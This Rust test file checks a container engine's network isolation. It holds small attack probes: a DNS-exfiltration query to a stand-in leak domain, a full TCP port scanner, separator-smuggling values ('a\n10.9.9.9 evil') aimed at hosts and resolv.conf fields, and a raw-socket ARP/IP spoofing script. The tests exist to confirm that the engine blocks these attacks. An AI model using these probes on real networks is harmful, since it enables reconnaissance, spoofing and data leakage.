//! What containers on networks must not reach, see or write.

use super::fixture::python;
use crate::support::{inspect, load_busybox, networked_engine, text, until};
use anyhow::{Context as _, Result, ensure};
use havre_testkit::command::command;
use havre_testkit::http::Body;
use havre_testkit::{Engine, EngineOptions};
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// What a tool prints in the engine's network.
fn on_host(engine: &Engine, words: &[&str]) -> Result<String> {
    let (program, arguments) = words.split_first().context("no program")?;
    let output = engine
        .namespace()?
        .output(command(program).args(arguments))?;
    ensure!(
        output.status.success(),
        "{words:?}: {}",
        text(&output.stderr)
    );
    Ok(text(&output.stdout))
}

/// An interface of the host by which it reaches the world: where nobody is, and all that leaves is counted.
fn uplink(engine: &Engine) -> Result<()> {
    for words in [
        "ip link add wan0 type veth peer name wan1",
        "ip link set wan1 up",
        "ip address add 192.0.2.1/24 dev wan0",
        "ip link set wan0 up",
        "ip neigh add 192.0.2.2 lladdr 02:00:00:00:00:02 dev wan0",
        "ip route add default via 192.0.2.2",
        "nft add table inet watch",
        "nft add chain inet watch out { type filter hook postrouting priority 300 ; }",
        "nft add rule inet watch out oifname wan0 meta nfproto ipv4 counter",
    ] {
        let words: Vec<&str> = words.split(' ').collect();
        on_host(engine, &words)?;
    }
    Ok(())
}

/// How many packets have left by it.
fn left(engine: &Engine) -> Result<u64> {
    let rules = on_host(engine, &["nft", "list", "table", "inet", "watch"])?;
    let (_, after) = rules.split_once("counter packets ").context("no counter")?;
    let number = after.split(' ').next().unwrap_or_default();
    Ok(number.parse()?)
}

/// A container that stays.
fn sleeper(engine: &Engine, name: &str, flags: &[&str]) -> Result<()> {
    let head = [&["run", "-d", "--name", name], flags].concat();
    engine.docker(&[&head[..], &["busybox", "sleep", "600"]].concat())?;
    Ok(())
}

/// Asks the container's name server by UDP and by TCP for what must not leave, also by way of a search domain; prints the
/// codes of the answers.
const LEAK: &str = r#"
import socket, struct
def query(name):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
server = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
codes = set()
for name in ["c2VjcmV0.leak.example.com", "db.leak.example.com", "leak.example.com"]:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(20)
    udp.sendto(query(name), (server, 53))
    codes.add(udp.recv(512)[3] & 15)
    tcp = socket.create_connection((server, 53), timeout=20)
    tcp.sendall(struct.pack(">H", len(query(name))) + query(name))
    codes.add(tcp.recv(512)[5] & 15)
print(*sorted(codes))
"#;

/// An engine whose host asks the name server 192.0.2.2, beyond its uplink.
fn engine_with_uplink() -> Result<Engine> {
    havre_testkit::ensure_packages()?;
    let script = "printf 'nameserver 192.0.2.2\\n' > /tmp/resolv.conf && \
                  mount --bind /tmp/resolv.conf /etc/resolv.conf && exec \"$@\"";
    let script = format!(
        "mount -t tmpfs own /mnt && {}",
        script.replace("/tmp/", "/mnt/")
    );
    let wrapper = [
        "unshare",
        "--mount",
        "--propagation",
        "private",
        "sh",
        "-c",
        &script,
        "sh",
    ];
    let engine = Engine::start_with(EngineOptions {
        own_network: true,
        wrapper: wrapper.map(str::to_owned).to_vec(),
        ..EngineOptions::default()
    })?;
    load_busybox(&engine)?;
    uplink(&engine)?;
    Ok(engine)
}

/// N01: names of the outside are refused to a container that is on internal networks alone, by UDP and TCP and with a search
/// domain, and no packet leaves the host; names of its network are found. On another network the same questions leave.
#[test]
fn n01_nothing_leaves_an_internal_network() -> Result<()> {
    let engine = engine_with_uplink()?;
    engine.docker(&["network", "create", "--internal", "back"])?;
    engine.docker(&["network", "create", "front"])?;
    sleeper(&engine, "db", &["--network", "back"])?;
    let ask = |flags: &[&str]| -> Result<String> {
        let words = [&["run", "--rm"][..], &python(flags, LEAK)].concat();
        engine.docker(&words)
    };
    let before = left(&engine)?;
    let search = ["--dns-search", "leak.example.com"];
    for more in [&[][..], &search, &["--dns", "192.0.2.2"]] {
        let flags = [&["--network", "back"], more].concat();
        // 2 is SERVFAIL, as Docker answers.
        assert_eq!(ask(&flags)?, "2", "{more:?}");
        let looked = [&["run", "--rm", "--network", "back"], more].concat();
        let looked = [&looked[..], &["busybox", "nslookup", "c2VjcmV0"]].concat();
        let answer = engine.docker_output(&looked)?;
        ensure!(!answer.status.success(), "{}", text(&answer.stdout));
        let found = [&["run", "--rm"], &flags[..]].concat();
        let found = [&found[..], &["busybox", "ping", "-c", "1", "-W", "5", "db"]].concat();
        engine.docker(&found)?;
    }
    assert_eq!(left(&engine)?, before, "packets left the host");
    // Whoever is on another network as well may ask.
    ask(&["--network", "front"])?;
    ensure!(
        left(&engine)? > before,
        "the questions of others do not leave"
    );
    Ok(())
}

/// Tries all TCP ports of some addresses, prints those that are open; then the same for UDP ports that answer or stay silent
/// is told by the host's own list.
const SCAN: &str = r#"
import socket, sys
for address in sys.argv[1:]:
    for port in range(1, 65536):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(5)
        if s.connect_ex((address, port)) == 0:
            print(address, port, "tcp")
        s.close()
"#;

/// The ports of a namespace at which sockets wait, by the kernel's own list: protocol, address, port.
const LISTENING: &str = r#"
import struct, socket
for kind, state in [("tcp", "0A"), ("udp", "07")]:
    for line in open("/proc/net/" + kind).readlines()[1:]:
        place, st = line.split()[1], line.split()[3]
        if st == state:
            address, port = place.split(":")
            print(socket.inet_ntoa(struct.pack("<I", int(address, 16))), int(port, 16), kind)
for kind in ["tcp6", "udp6"]:
    for line in open("/proc/net/" + kind).readlines()[1:]:
        if line.split()[3] in ("0A", "07"):
            print(line.split()[1], kind)
"#;

fn lines(text: &str) -> BTreeSet<String> {
    text.lines().map(str::to_owned).collect()
}

/// N12: from a container, no port of the gateways and of the host's other addresses is open but what was published, and on
/// the container's own loopback is its name server alone; the engine's API is nowhere.
#[test]
fn n12_the_host_offers_containers_nothing() -> Result<()> {
    let engine = networked_engine()?;
    uplink(&engine)?;
    engine.docker(&["network", "create", "--subnet", "10.77.0.0/24", "lan"])?;
    sleeper(&engine, "box", &["--network", "lan"])?;
    let other = ["--network", "lan", "-p", "8080:80", "--name", "web"];
    let server = ["busybox", "httpd", "-f", "-p", "80"];
    engine.docker(&[&["run", "-d"], &other[..], &server].concat())?;
    let bridge = inspect(&engine, "bridge", "{{(index .IPAM.Config 0).Gateway}}")?;
    // Also those that only the kernel listens to.
    let addresses = ["10.77.0.1", bridge.as_str(), "192.0.2.1", "127.0.0.11"];
    let words = [
        &["run", "--rm", "--network", "lan"][..],
        &python(&[], SCAN),
        &addresses,
    ]
    .concat();
    let open = engine.docker(&words)?;
    // The port of the name server is not the one that programs ask.
    let open: BTreeSet<String> = lines(&open)
        .into_iter()
        .filter(|line| !line.starts_with("127.0.0.11 "))
        .collect();
    let published = addresses[..3]
        .iter()
        .map(|address| format!("{address} 8080 tcp"));
    assert_eq!(open, published.collect());
    // UDP has no such sign; but where nobody listens, nobody hears.
    let words = ["python3", "-I", "-S", "-c", LISTENING];
    let host = lines(&on_host(&engine, &words)?);
    assert_eq!(
        host,
        lines("0.0.0.0 8080 tcp\n00000000000000000000000000000000:1F90 tcp6")
    );
    let inside = [
        &["run", "--rm", "--network", "lan"][..],
        &python(&[], LISTENING),
    ]
    .concat();
    let inside = lines(&engine.docker(&inside)?);
    assert_eq!(inside.len(), 2, "{inside:?}");
    for kind in ["tcp", "udp"] {
        let mut found = inside.iter().filter(|line| line.ends_with(kind));
        ensure!(
            found.all(|line| line.starts_with("127.0.0.11 ")),
            "{inside:?}"
        );
    }
    Ok(())
}

/// A text that would make a line of its own in a file.
fn evil(separator: &str) -> String {
    format!("a{separator}10.9.9.9 evil")
}

fn post(engine: &Engine, target: &str, body: &Value) -> Result<(u16, String)> {
    let bytes = body.to_string();
    let body = match body {
        Value::Null => Body::Empty,
        _ => Body::Bytes(bytes.as_bytes(), "application/json"),
    };
    let answer = engine.api("POST", target, &body)?;
    Ok((answer.status, text(&answer.body)))
}

/// In a query of an address, every byte by its number.
fn encoded(name: &str) -> String {
    name.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Requests with such a text in every field that ends in a container's `hosts` or `resolv.conf`, or in the names that its
/// neighbours find.
fn requests(separator: &str) -> Vec<(String, Value)> {
    let evil = evil(separator);
    let create = |more: Value, host: Value| {
        let mut body =
            json!({ "Image": "busybox", "Cmd": ["true"], "HostConfig": { "NetworkMode": "lan" } });
        for (target, source) in [("", more), ("HostConfig", host)] {
            let place = match target {
                "" => &mut body,
                name => &mut body[name],
            };
            for (key, value) in source.as_object().into_iter().flatten() {
                place[key] = value.clone();
            }
        }
        ("/containers/create".to_owned(), body)
    };
    let end =
        |settings: Value| json!({ "NetworkingConfig": { "EndpointsConfig": { "lan": settings } } });
    let nothing = || json!({});
    let mut all = vec![
        create(json!({ "Hostname": evil }), nothing()),
        create(json!({ "Domainname": evil }), nothing()),
        create(
            nothing(),
            json!({ "ExtraHosts": [format!("{evil}:10.0.0.1")] }),
        ),
        create(
            nothing(),
            json!({ "ExtraHosts": [format!("name:10.0.0.1{separator}10.9.9.9 evil")] }),
        ),
        create(
            nothing(),
            json!({ "Dns": [format!("10.0.0.1{separator}10.9.9.9 evil")] }),
        ),
        create(nothing(), json!({ "DnsSearch": [evil] })),
        create(nothing(), json!({ "DnsOptions": [evil] })),
        create(nothing(), json!({ "Links": [format!("box:{evil}")] })),
        create(end(json!({ "Aliases": [evil] })), nothing()),
        create(end(json!({ "Links": [format!("box:{evil}")] })), nothing()),
    ];
    let (_, plain) = create(nothing(), nothing());
    let name = encoded(&evil);
    all.push((format!("/containers/create?name={name}"), plain));
    all.push((format!("/containers/box/rename?name={name}"), Value::Null));
    if separator.contains(char::is_control) {
        // It is in no file, and spaces are Docker's.
        all.push(("/networks/create".to_owned(), json!({ "Name": evil })));
    }
    for settings in [
        json!({ "Aliases": [evil] }),
        json!({ "Links": [format!("box:{evil}")] }),
    ] {
        let body = json!({ "Container": "box", "EndpointConfig": settings });
        all.push(("/networks/other/connect".to_owned(), body));
    }
    all
}

/// N18: a text that would add a line to a container's `hosts` or `resolv.conf`, in whatever field, is refused with 400 and
/// leaves nothing; the ordinary forms of the same fields are written.
#[test]
fn n18_no_text_adds_a_line_to_hosts_and_resolv_conf() -> Result<()> {
    let engine = networked_engine()?;
    engine.docker(&["network", "create", "lan"])?;
    engine.docker(&["network", "create", "other"])?;
    sleeper(&engine, "box", &["--network", "lan"])?;
    let state = || -> Result<(String, String, String)> {
        Ok((
            engine.docker(&["exec", "box", "cat", "/etc/hosts", "/etc/resolv.conf"])?,
            engine.docker(&["ps", "-a", "--format", "{{.Names}}"])?,
            engine.docker(&["network", "ls", "--format", "{{.Name}}"])?,
        ))
    };
    let before = state()?;
    let mut taken = Vec::new();
    for separator in [
        "\n", "\r", "\r\n", "\0", "\t", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}", " ",
    ] {
        for (target, body) in requests(separator) {
            let (status, answer) = post(&engine, &target, &body)?;
            if status != 400 {
                taken.push(format!("{status} {target} {body}: {answer}"));
            }
        }
    }
    ensure!(taken.is_empty(), "{}", taken.join("\n"));
    assert_eq!(state()?, before);
    let flags = [
        "--network",
        "lan",
        "--network-alias",
        "data-base.x_y",
        "--hostname",
        "h1",
        "--domainname",
        "example.org",
        "--add-host",
        "gate:host-gateway",
        "--add-host",
        "six:[fd00::1]",
        "--dns",
        "10.0.0.1",
        "--dns-search",
        "example.com",
        "--dns-option",
        "ndots:2",
        "--link",
        "box:its-db",
    ];
    let show = ["busybox", "cat", "/etc/hosts", "/etc/resolv.conf"];
    let shown = engine.docker(&[&["run", "--rm"], &flags[..], &show].concat())?;
    for line in [
        "\th1.example.org h1",
        "fd00::1\tsix",
        "\tgate",
        "search example.com",
        "ndots:2",
    ] {
        ensure!(shown.contains(line), "`{line}` is not in {shown}");
    }
    Ok(())
}

/// Says by ARP and by IP that it is its neighbour, whose address is the first argument; to the address that is the second,
/// whose hardware address is the third.
const SPOOF: &str = r#"
import socket, struct, sys
victim, peer = (socket.inet_aton(text) for text in sys.argv[1:3])
to = bytes.fromhex(sys.argv[3].replace(":", ""))
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
arp = struct.pack(">HHBBH", 1, 0x0800, 6, 4, 1) + own + victim + to + peer
udp = struct.pack(">HHHH", 9, 9, 9, 0) + b"x"
head = struct.pack(">BBHHHBBH", 0x45, 0, 29, 0, 0, 64, 17, 0) + victim + peer
total = sum(struct.unpack(">10H", head))
total = (total & 0xffff) + (total >> 16)
head = head[:10] + struct.pack(">H", 0xffff & ~((total & 0xffff) + (total >> 16))) + head[12:]
for kind, packet in [(0x0806, arp), (0x0800, head + udp)]:
    s.send(to + own + struct.pack(">H", kind) + packet)
    s.send(to + b"\x02\0\0\0\0\x66" + struct.pack(">H", kind) + packet)
"#;

/// N08: a network made with `havre.network.anti_spoofing=true` keeps frames of a container that name another as their source
/// from its neighbours, also when the engine was killed and came back; a network made without delivers them, as Docker does.
#[test]
fn n08_nobody_passes_for_a_neighbour() -> Result<()> {
    let mut engine = networked_engine()?;
    let option = "havre.network.anti_spoofing=true";
    engine.docker(&["network", "create", "--subnet", "10.78.0.0/24", "plain"])?;
    engine.docker(&[
        "network",
        "create",
        "--subnet",
        "10.79.0.0/24",
        "-o",
        option,
        "strict",
    ])?;
    let shown = engine.docker(&["network", "inspect", "strict", "--format", "{{.Options}}"])?;
    ensure!(
        shown.contains("havre.network.anti_spoofing:true"),
        "{shown}"
    );
    for (net, subnet) in [("plain", "10.78.0"), ("strict", "10.79.0")] {
        let peer = format!("{net}-peer");
        let address = format!("{subnet}.3");
        sleeper(&engine, &peer, &["--network", net, "--ip", &address])?;
        // From then on it hears its neighbours, and knows the gateway, which the other one says that it is.
        let gateway = format!("{subnet}.1");
        engine.docker(&["exec", &peer, "ping", "-c", "1", "-W", "5", &gateway])?;
    }
    for round in 0..2 {
        for (net, subnet, deceived) in [("plain", "10.78.0", true), ("strict", "10.79.0", false)] {
            let peer = format!("{net}-peer");
            let (own, victim, address) = (
                format!("{subnet}.2{round}"),
                format!("{subnet}.1"),
                format!("{subnet}.3"),
            );
            let mac = engine.docker(&["exec", &peer, "cat", "/sys/class/net/eth0/address"])?;
            let flags = ["--network", net, "--ip", &own, "--cap-add", "NET_RAW"];
            let words = [
                &["run", "--rm"][..],
                &python(&flags, SPOOF),
                &[&victim, &address, &mac],
            ]
            .concat();
            engine.docker(&words)?;
            let table = engine.docker(&["exec", &peer, "cat", "/proc/net/arp"])?;
            // As it follows from the liar's address: 10.78.0.20 and so on.
            let (second, last) = (if net == "plain" { 78 } else { 79 }, 20 + round);
            let liar = format!("02:42:0a:{second:02x}:00:{last:02x}");
            assert_eq!(table.contains(&liar), deceived, "{net}, {round}: {table}");
        }
        let dropped = on_host(&engine, &["nft", "list", "tables", "bridge"])?;
        assert_eq!(dropped.lines().count(), 1, "{dropped}");
        engine.kill9()?;
        engine.restart()?;
    }
    // What it may do goes on.
    engine.docker(&[
        "exec",
        "strict-peer",
        "ping",
        "-c",
        "1",
        "-W",
        "5",
        "10.79.0.1",
    ])?;
    engine.docker(&["rm", "-f", "strict-peer", "plain-peer"])?;
    engine.docker(&["network", "rm", "strict"])?;
    until(&String::new(), || {
        on_host(&engine, &["nft", "list", "tables", "bridge"])
    })?;
    let refused =
        engine.docker_output(&["network", "create", "-d", "macvlan", "-o", option, "x"])?;
    crate::support::assert_fails(&refused, 1, "is of the driver bridge alone");
    Ok(())
}
